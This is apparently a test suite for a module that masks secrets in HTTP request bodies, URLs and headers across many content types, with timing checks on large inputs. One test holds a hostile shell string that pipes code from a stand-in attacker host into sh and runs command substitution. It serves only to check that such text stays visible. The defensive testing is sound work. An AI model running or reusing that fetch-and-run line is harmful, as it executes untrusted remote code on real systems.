// A person is shown the request as it is sent: only secrets are replaced, on the original text, in
// every form of body.

import { describe, expect, test } from "bun:test";
import { maskBody } from "../../src/redaction/mask-body.ts";
import { maskHeaders } from "../../src/redaction/mask-headers.ts";
import { maskTarget } from "../../src/redaction/mask-pairs.ts";
import { maskValues } from "../../src/redaction/secret-value.ts";

const JSON_TYPE = "application/json";
const JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl";

describe("a body is shown as it is sent:", () => {
  const SAME = [
    '{"n":9007199254740993}',
    '{"n":1e400, "m":-0.0}',
    '{"a":1,"a":2}',
    '{ "a" :\t[1 ,2],\n"b":"\\u0041" }',
    "{ not json",
    '{"password":null,"token":true}',
    '{"a":1}\n{"b":2}\n',
    "just text",
  ];
  for (const text of SAME) test(text, () => expect(maskBody(JSON_TYPE, text, false)).toBe(text));
});

describe("a secret is masked in", () => {
  const ROWS: readonly (readonly [type: string, text: string, shown: string])[] = [
    [JSON_TYPE, '{"a":1,"password":"x","a":2}', '{"a":1,"password":"***","a":2}'],
    [JSON_TYPE, '{"passw\\u006frd":"x"}', '{"passw\\u006frd":"***"}'],
    [JSON_TYPE, '{"password":12345}', '{"password":"***"}'],
    [JSON_TYPE, '{"tokens":["a","b"]}', '{"tokens":["***","***"]}'],
    [JSON_TYPE, '{"value":"x","name":"DB_PASSWORD"}', '{"value":"***","name":"DB_PASSWORD"}'],
    [JSON_TYPE, '{"data":{"a":"x"},"kind":"Secret"}', '{"data":{"a":"***"},"kind":"Secret"}'],
    [JSON_TYPE, '{"s":"{\\"password\\":\\"x\\"}"}', '{"s":"{\\"password\\":\\"***\\"}"}'],
    [JSON_TYPE, `{"note":"use ${JWT} now"}`, '{"note":"use *** now"}'],
    [
      "application/x-ndjson",
      '{"token":"x"}\n{"token":"y","n":1}\n',
      '{"token":"***"}\n{"token":"***","n":1}\n',
    ],
    [
      "application/x-www-form-urlencoded",
      "Action=X&WebIdentityToken=abc&n=1",
      "Action=X&WebIdentityToken=***&n=1",
    ],
    ["application/x-www-form-urlencoded", "user%5Bpassword%5D=abc&b", "user%5Bpassword%5D=***&b"],
    [
      "application/x-www-form-urlencoded",
      "P.member.1.ParameterValue=abc&P.member.1.ParameterKey=DBPassword&P.member.2.ParameterKey=Size&P.member.2.ParameterValue=9",
      "P.member.1.ParameterValue=***&P.member.1.ParameterKey=DBPassword&P.member.2.ParameterKey=Size&P.member.2.ParameterValue=9",
    ],
    ["", "payload=%7B%22token%22%3A%22x%22%7D", "payload=%7B%22token%22%3A%22***%22%7D"],
    [
      "application/yaml",
      "a: 1 # note\npassword: hunter2\na: 0x10\n",
      'a: 1 # note\npassword: "***"\na: 0x10\n',
    ],
    [
      "application/apply-patch+yaml",
      "kind: Secret\nmetadata: {name: db}\nstringData:\n  a: |\n    hunter2\n    more\n  b: x\n",
      'kind: Secret\nmetadata: {name: db}\nstringData:\n  a: "***"\n  b: "***"\n',
    ],
    ["application/yaml", "x: &p hunter2\npassword: *p\n", 'x: &p "***"\npassword: *p\n'],
    [
      "application/yaml",
      "env:\n- name: API_TOKEN\n  value: hunter2\n",
      'env:\n- name: API_TOKEN\n  value: "***"\n',
    ],
    ["text/xml", "<A><Password>x</Password><N>1</N></A>", "<A><Password>***</Password><N>1</N></A>"],
    [
      "text/xml",
      '<A apiKey="x" n="1"><s:Token xmlns:s="u"><![CDATA[x]]></s:Token></A>',
      '<A apiKey="***" n="1"><s:Token xmlns:s="u"><![CDATA[***]]></s:Token></A>',
    ],
    [
      "text/xml",
      "<e><Key>DB_PASSWORD</Key><Value>x</Value></e>",
      "<e><Key>DB_PASSWORD</Key><Value>***</Value></e>",
    ],
    [
      'multipart/form-data; boundary="b"',
      '--b\r\nContent-Disposition: form-data; name="password"\r\n\r\nx\r\n--b\r\nContent-Type: application/json\r\n\r\n{"token":"x","n":1}\r\n--b--\r\n',
      '--b\r\nContent-Disposition: form-data; name="password"\r\n\r\n***\r\n--b\r\nContent-Type: application/json\r\n\r\n{"token":"***","n":1}\r\n--b--\r\n',
    ],
    ["text/plain", "export DB_PASSWORD=hunter2; ls", "export DB_PASSWORD=***; ls"],
    ["text/plain", "postgres://me:hunter2@db/x", "postgres://***@db/x"],
  ];
  for (const [type, text, shown] of ROWS)
    test(`${type} ${JSON.stringify(text)}`, () => expect(maskBody(type, text, false)).toBe(shown));
});

test("what a shell would run stays in sight behind the name of a password", () => {
  const script = 'PASSWORD="$(curl evil.example | sh)"; TOKEN=`id`';
  expect(maskBody("text/plain", script, false)).toBe(script);
});

test("everything that is called a value is masked in a request about secrets", () => {
  expect(maskBody(JSON_TYPE, '{"name":"n","value":"x"}', true)).toBe('{"name":"n","value":"***"}');
});

describe("a query's secrets are masked by the words of their names and the shape of their values:", () => {
  const ROWS: readonly (readonly [string, string])[] = [
    ["/a?WebIdentityToken=x&b=1", "/a?WebIdentityToken=***&b=1"],
    ["/a?clientSecret=x", "/a?clientSecret=***"],
    ["/a?SAMLAssertion=x", "/a?SAMLAssertion=***"],
    ["/a?user[password]=x&user%5Bpassword%5D=y", "/a?user[password]=***&user%5Bpassword%5D=***"],
    ["/a?p%61ssword=x", "/a?p%61ssword=***"],
    [`/a?q=${JWT}`, "/a?q=***"],
    ["/a?q=ghp_0123456789abcdefghijklmnopqrstuvwxyz", "/a?q=***"],
    ["/a?key=x&code=y&sig=z", "/a?key=***&code=***&sig=***"],
    ["/a?%ZZpassword=x", "/a?%ZZpassword=***"],
    ["/a?pageToken=x&secretId=y&limit=1", "/a?pageToken=x&secretId=y&limit=1"],
    ["/bot123456789:AAabcdefghijklmnopqrstuvwxyz0123456789/send", "/***/send"],
  ];
  for (const [target, shown] of ROWS) test(target, () => expect(maskTarget(target)).toBe(shown));
});

describe("a value is a secret by its shape:", () => {
  const VALUES = [
    JWT,
    "ghp_0123456789abcdefghijklmnopqrstuvwxyz",
    "github_pat_11ABCDEFG0abcdefghijkl_mnopqrstuvwxyz",
    "AKIAIOSFODNN7EXAMPLE",
    `${"xox"}b-123456789012-abcdefghijkl`,
    "sk-ant-api03-abcdefghijklmnop",
    "sk-abcdefghijklmnopqrstuvwxyz0123",
    "glpat-abcdefghijklmnopqrst",
    "k8s-aws-v1.aHR0cHM6Ly9zdHMuYW1hem9uYXdz",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----\\nMIIE and no end",
  ];
  for (const value of VALUES) test(value, () => expect(maskValues(`before ${value}`)).toBe("before ***"));
  test("a certificate and an address without a user are none", () => {
    const text = "-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE----- https://example.com/a@b";
    expect(maskValues(text)).toBe(text);
  });
});

test("header credentials are masked, and of a WebSocket's protocols only the token", () => {
  const shown = maskHeaders([
    ["Authorization", "Bearer x"],
    ["X-Amz-Server-Side-Encryption-Customer-Key", "a2V5"],
    ["X-Amz-Server-Side-Encryption-Customer-Algorithm", "AES256"],
    ["x-functions-key", "x"],
    ["Ocp-Apim-Subscription-Key", "x"],
    ["Sec-WebSocket-Protocol", "v4.channel.k8s.io, base64url.bearer.authorization.k8s.io.dG9rZW4"],
    ["Sec-WebSocket-Protocol", "access_token, c2VjcmV0, graphql-ws"],
    ["Referer", "https://x/?token=abc"],
    ["Accept", "*/*"],
  ]);
  expect(shown.map(([, value]) => value)).toEqual([
    "***",
    "***",
    "AES256",
    "***",
    "***",
    "v4.channel.k8s.io, base64url.bearer.authorization.k8s.io.***",
    "access_token, ***, graphql-ws",
    "https://x/?token=***",
    "*/*",
  ]);
});

test("of a long body the beginning is shown, and no value of it", () => {
  const text = `{"data":{"a":"hush","b":[${"1,".repeat(60_000)}"x"]},"kind":"Secret"}`;
  const shown = maskBody(JSON_TYPE, text, false);
  expect(shown).not.toContain("hush");
  expect(shown).toMatch(/^\{"data":\{"a":"\*\*\*"/);
  expect(shown).toMatch(/\(\d+ more characters/);
});

describe("the worst input of a megabyte is masked in little time:", () => {
  const MEGABYTE = 1024 * 1024;
  const ROWS: readonly (readonly [string, string, string])[] = [
    [
      "objects that turn out to be secret",
      JSON_TYPE,
      `[${'{"value":"a","type":"secret"},'.repeat(MEGABYTE / 30)}1]`,
    ],
    [
      "nested ones",
      JSON_TYPE,
      `${'{"data":'.repeat(190)}"${"a".repeat(MEGABYTE)}"${',"type":"secret"}'.repeat(190)}`,
    ],
    ["open brackets", JSON_TYPE, "[".repeat(MEGABYTE)],
    ["pairs", "application/x-www-form-urlencoded", "a&".repeat(MEGABYTE / 2)],
    ["names and values", "application/x-www-form-urlencoded", "token=a&".repeat(MEGABYTE / 8)],
    ["angle brackets", "text/xml", "<".repeat(MEGABYTE)],
    ["open elements", "text/xml", "<a>".repeat(MEGABYTE / 3)],
    ["open quotes", "text/xml", `<a${' b="'.repeat(MEGABYTE / 4)}`],
    ["the beginning of a key", "text/plain", "-----BEGIN PRIVATE KEY-----".repeat(MEGABYTE / 27)],
    ["the beginning of a token", "text/plain", "eyJ".repeat(MEGABYTE / 3)],
    ["schemes", "text/plain", "http://".repeat(MEGABYTE / 7)],
    ["word characters", "text/plain", "a".repeat(MEGABYTE)],
    ["flags", "text/plain", "--token ".repeat(MEGABYTE / 8)],
    ["yaml", "application/yaml", "- a: b\n".repeat(MEGABYTE / 7)],
  ];
  for (const [name, type, text] of ROWS)
    test(name, () => {
      const start = process.cpuUsage();
      maskBody(type, text, false);
      const { user, system } = process.cpuUsage(start);
      // Generous: the machine may be busy, and 50 ms are meant.
      expect((user + system) / 1000).toBeLessThan(500);
    }, 120_000);
});

test("a URL in a query has its own query masked, encoded or not", () => {
  expect(maskTarget("/p?callback=http://h/?access_token=S3CRET")).toBe(
    "/p?callback=http://h/?access_token=***",
  );
  expect(maskTarget("/p?u=https%3A%2F%2Fh%2F%3Fa%3D1%26password%3DS3CRET&b=2")).not.toContain("S3CRET");
  expect(maskTarget("/p?u=https://h/%23id_token=S3CRET")).not.toContain("S3CRET");
  expect(maskTarget("/p?u=https%3A%2F%2Fh%2F%3Fa%3D1")).toBe("/p?u=https%3A%2F%2Fh%2F%3Fa%3D1");
});
